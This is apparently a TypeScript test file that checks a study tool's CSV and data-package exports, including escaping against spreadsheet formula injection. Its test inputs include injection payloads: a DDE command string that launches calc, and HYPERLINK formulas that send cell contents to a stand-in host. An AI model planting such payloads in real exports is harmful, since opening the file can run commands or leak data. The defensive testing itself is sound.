// Claims about the forms of the tables that other programs read: spreadsheets and data packages.

import fc from "fast-check";
import { expect, test } from "vitest";
import { analyseStudy } from "../../../src/experiment/analysis/findings.ts";
import { planStudy } from "../../../src/experiment/plan/study-plan.ts";
import { dataPackage } from "../../../src/experiment/tables/data-package.ts";
import { excelCellText } from "../../../src/experiment/tables/excel-text.ts";
import { runsTable } from "../../../src/experiment/tables/runs.ts";
import { spreadsheetTables, studyTables } from "../../../src/experiment/tables/study-tables.ts";
import { typeOf } from "../../../src/experiment/tables/table.ts";
import { weeksTable } from "../../../src/experiment/tables/weeks.ts";
import { outcomeWith } from "../fixtures/outcomes.ts";
import { alone, sampleScenario, team } from "../fixtures/scenarios.ts";

test.each([
  '=HYPERLINK("http://e/?"&A1)',
  "=cmd|'/c calc'!A1",
  "+1",
  "-1+1",
  "-2.5",
  "@SUM(1)",
  " =1",
  "\r",
  "|x",
  "\0x",
  "＝1+1",
  " ＋1",
  "\u00a0=1",
])("a spreadsheet program takes %j for a text", (text) => {
  const cell = excelCellText(text);
  const content = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  expect(content).toBe(`'${text}`);
});

test.each([
  ["\t=1", "'\t'=1"],
  ["\n=1", "'\n'=1"],
  ["Teams\n=1", "Teams\n'=1"],
  ["Teams;=1", "Teams;'=1"],
  ["Teams;; @x;b", "Teams;;' @x;b"],
  ["=1;+2", "'=1;'+2"],
  ["a;b\tc", "a;b\tc"],
])("a program that was told of other separators, or of no quotes, takes %j for texts", (text, safe) => {
  const cell = excelCellText(text);
  expect(cell.startsWith('"') ? cell.slice(1, -1) : cell).toBe(safe);
});

test.each<[string | number | boolean | undefined, string]>([
  [-2.5, "-2.5"],
  [-0.0001, "-0.0001"],
  [1e21, "1e+21"],
  [Number.NaN, ""],
  [undefined, ""],
  [true, "true"],
  ["plain", "plain"],
  ["a=b", "a=b"],
  ["", ""],
])("a spreadsheet program finds %j as it is", (value, cell) => {
  expect(excelCellText(value)).toBe(cell);
});

const swept = sampleScenario(
  { sweep: [{ lever: "staff.teams", values: [3, 6] }], question: "What happens?\n" },
  { replications: 2 },
);

function study() {
  const outcome = outcomeWith({ engagementQuality: 0.5 });
  const row = { cellIndex: 0, replication: 1, status: "ok", outcome } as const;
  return analyseStudy(planStudy(swept, { kind: "sweep" }), [row]);
}

test("a table without a twin for spreadsheets holds no text of a file's author that one could act on", () => {
  const says = '=HYPERLINK("http://e.example/?"&A1)';
  const claim = { name: "H1", says, measure: "engagementQuality", plan: "team", than: "alone" } as const;
  const hostile = sampleScenario(
    {
      title: says,
      question: says,
      plans: [
        { ...alone, label: says },
        { ...team, label: says },
      ],
      hypotheses: [{ ...claim, kind: "difference", expect: "higher" }],
    },
    { replications: 2, seed: says },
  );
  const rows = [0, 1].flatMap((cellIndex) =>
    [1, 2].map((replication) => {
      const outcome = outcomeWith({ engagementQuality: cellIndex + replication / 10 });
      return { cellIndex, replication, status: "ok", outcome } as const;
    }),
  );
  const tables = studyTables(analyseStudy(planStudy(hostile, { kind: "compare" }), rows));
  const acted = tables.filter((table) => [...table.rows()].flat().includes(says));
  expect(spreadsheetTables).toEqual(expect.arrayContaining(acted.map(({ name }) => name)));
  expect(acted.length).toBeGreaterThan(0);
});

test("a negative value of a lever is a number in every form of the table", () => {
  const [runs] = studyTables(study());
  const [row] = runs.rows();
  expect(row[1]).toBe(3);
});

test("every column of every table has its type, its meaning and, where it has one, its unit", () => {
  const results = study();
  const tables = studyTables(results);
  const [runsTable] = tables;
  const weeks = weeksTable(results);
  const described = JSON.parse(dataPackage(results, tables, [runsTable], [weeks], spreadsheetTables));
  expect(described).toMatchObject({ name: "sample", title: "A sample", description: "What happens?" });
  expect(described.resources.map(({ path }: { path: string }) => path)).toEqual([
    ...tables.map(({ name }) => `${name}.csv`),
    ...spreadsheetTables.map((name) => `${name}-excel.csv`),
    "runs.parquet",
    "weeks.parquet",
  ]);
  const names = described.resources.map(({ name }: { name: string }) => name);
  expect(new Set(names).size).toBe(names.length);
  const copies = tables.filter(({ name }) => spreadsheetTables.includes(name));
  const inOrder = [...tables, ...copies, runsTable, weeks];
  for (const [place, table] of inOrder.entries()) {
    const { fields } = described.resources[place].schema;
    expect(fields.map(({ name }: { name: string }) => name)).toEqual(table.fields.map(({ name }) => name));
    for (const { type, description } of fields) {
      expect(["string", "number", "integer", "boolean"]).toContain(type);
      expect(description).toMatch(/\w/);
    }
  }
  const [runs] = described.resources;
  expect(runs.schema.fields.slice(0, 5)).toEqual([
    { name: "plan", type: "string", description: expect.any(String) },
    { name: "staff.teams", type: "number", description: expect.any(String), unit: expect.any(String) },
    { name: "replication", type: "integer", description: expect.any(String) },
    { name: "point", type: "integer", description: expect.any(String) },
    { name: "copyOf", type: "string", description: expect.any(String) },
  ]);
  expect(runs.schema.missingValues).toEqual([""]);
});

test("the types said are those of the values", () => {
  for (const { fields, rows } of studyTables(study())) {
    for (const row of rows()) {
      for (const [place, { type, unit }] of fields.entries()) {
        const value = row[place];
        if (value === undefined || Number.isNaN(value)) continue;
        const said = type ?? (unit === "" ? "string" : "number");
        expect(said === "integer" ? "number" : said).toBe(typeof value);
        if (said === "integer") expect(Number.isInteger(value)).toBe(true);
      }
    }
  }
});

test("whatever unit a measure of one's own has, none or any text, its column is one of numbers that every form can store", () => {
  fc.assert(
    fc.property(fc.oneof(fc.constant(""), fc.string()), (unit) => {
      const own = { name: "mine", label: "Mine", unit, better: "neither", matters: 1 } as const;
      const { rows } = study();
      const outcome = { ...outcomeWith({ engagementQuality: 0.5 }), ownMeasures: { mine: 3 } };
      const found = { ...study(), rows: [{ ...rows[0], outcome }, ...rows.slice(1)], ownMeasures: [own] };
      const column = runsTable(found as never).fields.find(({ name }) => name === "mine");
      expect(column === undefined ? "" : typeOf(column)).toBe("number");
    }),
    { seed: 20261, numRuns: 50 },
  );
});
